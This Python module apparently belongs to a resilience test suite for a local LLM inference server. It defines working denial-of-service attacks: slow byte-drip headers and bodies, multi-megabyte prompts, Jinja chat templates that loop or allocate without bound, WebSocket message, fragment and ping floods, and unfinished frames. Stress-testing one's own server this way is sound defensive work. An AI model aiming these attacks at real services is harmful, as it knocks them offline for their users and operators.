"""Attacks: each is a coroutine that one attacker repeats until it is cancelled.

Large bodies come ready made, so that the attacker spends little of its own time on them.
An attacker has an address of its own (127.0.0.2), as a server tells clients apart by it.
"""

import asyncio
import contextlib
import json
import random
import struct
from collections import Counter
from collections.abc import Awaitable, Callable
from typing import Any, Final

from attrs import frozen
from websockets.frames import Frame, Opcode

HOST: Final = "127.0.0.1"
ADDRESS: Final = "127.0.0.2"  # of the attackers
TEXT: Final = "a" * 4_000_000
DRIP_SECONDS: Final = 0.5  # seconds between two bytes of a slow sender
LONG_ANSWER_TOKENS: Final = 1900  # tokens of an answer that is not read, or that is left
SLOW_BODY_BYTES: Final = 2_000  # bytes
JUNK_BYTES: Final = 2_000  # bytes
# Templates of requests, of a server with --trust-request-chat-template: 1e10 rounds, and
# a text that doubles 60 times.
LOOPING: Final = (
    "{% set s = 'x' * 100000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}"
)
DOUBLING: Final = (
    "{% set n = namespace(a='xy') %}"
    "{% for i in range(60) %}{% set n.a = n.a ~ n.a %}{% endfor %}"
)
LOOPS: Final = 99_999  # of the template in another: 1e10 rounds
FLOOD_BYTES: Final = 2**16  # bytes of a flood that are sent at once
ENDLESS_FRAME_BYTES: Final = 4_000_000  # bytes that a frame announces, and never has
UPGRADE: Final = (
    f"GET /v1/stream HTTP/1.1\r\nHost: {HOST}\r\nUpgrade: websocket\r\n"
    "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
PATHS: Final = (
    "completions",
    "chat/completions",
    "embeddings",
    "messages",
    "responses",
    "tokenize",
)


@frozen
class Door:
    """Where the server is, and what attackers got so far, by answer."""

    port: int
    answers: Counter[str]

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection from the attackers' address."""
        return await asyncio.open_connection(HOST, self.port, local_addr=(ADDRESS, 0))

    async def send(self, data: bytes) -> None:
        """Send bytes, and note the status that comes back."""
        reader, writer = await self.connect()
        with contextlib.closing(writer):
            with contextlib.suppress(OSError):  # it may refuse before it has read all
                writer.write(data)
                await writer.drain()
            line = await reader.readline()
            self.answers[line.split(b" ")[1].decode() if b" " in line else "closed"] += 1
            while await reader.read(1 << 16):
                pass


Attack = Callable[[Door], Awaitable[None]]


@frozen
class Attackers:
    """How many do the same at once, and what."""

    count: int
    attack: Attack


def request(path: str, body: bytes) -> bytes:
    """A POST that asks the server to close the connection after it."""
    head = f"POST {path} HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\n"
    head += f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


def body(path: str, **fields: Any) -> Attack:
    """An attack that posts one body, which is written once."""
    data = request(f"/v1/{path}", json.dumps(fields).encode())

    async def attack(door: Door) -> None:
        await door.send(data)

    return attack


def message(content: Any) -> list[dict[str, Any]]:
    """The messages of a chat that says this."""
    return [{"role": "user", "content": content}]


def stream(tokens: int) -> bytes:
    """A request whose answer is streamed."""
    fields = {"prompt": "def f(", "max_tokens": tokens, "ignore_eos": True}
    return request("/v1/completions", json.dumps({**fields, "stream": True}).encode())


async def disconnect(door: Door) -> None:
    """Ask for a long answer, and leave when it begins."""
    reader, writer = await door.connect()
    with contextlib.closing(writer):
        writer.write(stream(LONG_ANSWER_TOKENS))
        await reader.readline()
    door.answers["left"] += 1


async def stall(door: Door) -> None:
    """Ask for a long answer, and never read it."""
    reader, writer = await door.connect()
    with contextlib.closing(writer):
        reader._transport.pause_reading()  # type: ignore[attr-defined]  # asyncio's: the socket's buffers fill
        writer.write(stream(LONG_ANSWER_TOKENS))
        door.answers["asked"] += 1
        await asyncio.Event().wait()


async def read(door: Door) -> None:
    """Ask for a long answer, and read it: a load, beside which stalled readers look."""
    await door.send(stream(LONG_ANSWER_TOKENS))


async def drip_head(door: Door) -> None:
    """Send a header one byte at a time."""
    reader, writer = await door.connect()
    await drip(door, reader, writer)


async def drip_body(door: Door) -> None:
    """Promise a body, and send it one byte at a time."""
    reader, writer = await door.connect()
    request_bytes = request("/v1/completions", b" " * SLOW_BODY_BYTES)
    writer.write(request_bytes[:-SLOW_BODY_BYTES])
    await drip(door, reader, writer)


async def drip(
    door: Door, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Send a byte now and then, until the server has had enough."""
    with contextlib.closing(writer):
        ended = asyncio.ensure_future(reader.read())
        while not ended.done():
            writer.write(b"X")
            await asyncio.wait([ended], timeout=DRIP_SECONDS)
        door.answers["closed"] += 1


async def junk(door: Door) -> None:
    """Random bytes: as a request, and as the body of one."""
    data = random.randbytes(JUNK_BYTES)
    await door.send(data + b"\r\n\r\n")
    await door.send(request(f"/v1/{random.choice(PATHS)}", data))


def flood(frame: Frame, first: bytes = b"") -> Attack:
    """An attack that sends a frame again and again over a WebSocket and reads nothing,
    until the server closes the connection.
    """
    serialized = frame.serialize(mask=True)
    data = serialized * (FLOOD_BYTES // len(serialized))

    async def attack(door: Door) -> None:
        reader, writer = await door.connect()
        with contextlib.closing(writer):
            writer.write(UPGRADE.encode())
            await reader.readuntil(b"\r\n\r\n")
            reader._transport.pause_reading()  # type: ignore[attr-defined]  # as above
            writer.write(first)
            while True:
                writer.write(data)
                await writer.drain()

    return attack


async def endless_frame(door: Door) -> None:
    """Announce a frame over a WebSocket, and never send its last bytes."""
    reader, writer = await door.connect()
    with contextlib.closing(writer):
        writer.write(UPGRADE.encode())
        await reader.readuntil(b"\r\n\r\n")
        writer.write(struct.pack("!BBQI", 0x81, 0xFF, ENDLESS_FRAME_BYTES, 0))
        writer.write(bytes(ENDLESS_FRAME_BYTES - 1))
        await reader.read()
        door.answers["closed"] += 1


TEXT_FLOOD: Final = flood(Frame(Opcode.TEXT, b"{}"))
PART_FLOOD: Final = flood(
    Frame(Opcode.CONT, b"a", fin=False),
    Frame(Opcode.TEXT, b"", fin=False).serialize(mask=True),
)
PING_FLOOD: Final = flood(Frame(Opcode.PING, b"x" * 125))
MANY_PROMPTS: Final = [[i % 999, 5] for i in range(4096)]
ATTACKS: Final[dict[str, Attackers]] = {
    "nothing": Attackers(0, read),
    "two prompts of 4 MB": Attackers(2, body("completions", prompt=TEXT, max_tokens=1)),
    "two texts of 4 MB in messages": Attackers(
        2, body("chat/completions", messages=message(TEXT))
    ),
    "a million ids": Attackers(
        1, body("completions", prompt=[7] * 1_000_000, max_tokens=1)
    ),
    "120,000 content parts": Attackers(
        1,
        body(
            "chat/completions",
            messages=message([{"type": "text", "text": ""}] * 120_000),
        ),
    ),
    "200,000 keys for the template": Attackers(
        1,
        body(
            "chat/completions",
            messages=message("x"),
            chat_template_kwargs={f"k{i}": 1 for i in range(200_000)},
        ),
    ),
    "endless template": Attackers(
        2,
        body(
            "chat/completions",
            messages=message("x"),
            max_tokens=1,
            chat_template_kwargs={"loops": LOOPS},
        ),
    ),
    "templates of requests that loop": Attackers(
        4, body("chat/completions", messages=message("x"), chat_template=LOOPING)
    ),
    "templates of requests that allocate": Attackers(
        4, body("chat/completions", messages=message("x"), chat_template=DOUBLING)
    ),
    "4,096 prompts in one request": Attackers(
        1, body("completions", prompt=MANY_PROMPTS, max_tokens=64)
    ),
    "disconnects": Attackers(32, disconnect),
    "500 stalled readers": Attackers(500, stall),
    "500 readers": Attackers(500, read),
    "300 slow headers": Attackers(300, drip_head),
    "300 slow bodies": Attackers(300, drip_body),
    "random bytes": Attackers(8, junk),
    "a flood of WebSocket messages": Attackers(1, TEXT_FLOOD),
    "32 floods of WebSocket messages": Attackers(32, TEXT_FLOOD),
    "64 floods of WebSocket messages": Attackers(64, TEXT_FLOOD),
    "64 floods of parts of a message": Attackers(64, PART_FLOOD),
    "64 floods of pings": Attackers(64, PING_FLOOD),
    "64 frames without an end": Attackers(64, endless_frame),
}


async def repeat(door: Door, attack: Attack) -> None:
    """One attacker."""
    while True:
        try:
            await attack(door)
        except (OSError, ValueError) as error:
            door.answers[type(error).__name__] += 1
            await asyncio.sleep(0.01)


async def besiege(port: int, name: str, seconds: float) -> Counter[str]:
    """All attackers of a kind for so long; returns what they got, by answer."""
    attackers = ATTACKS[name]
    door = Door(port, Counter())
    tasks = [
        asyncio.ensure_future(repeat(door, attackers.attack))
        for _ in range(attackers.count)
    ]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return door.answers
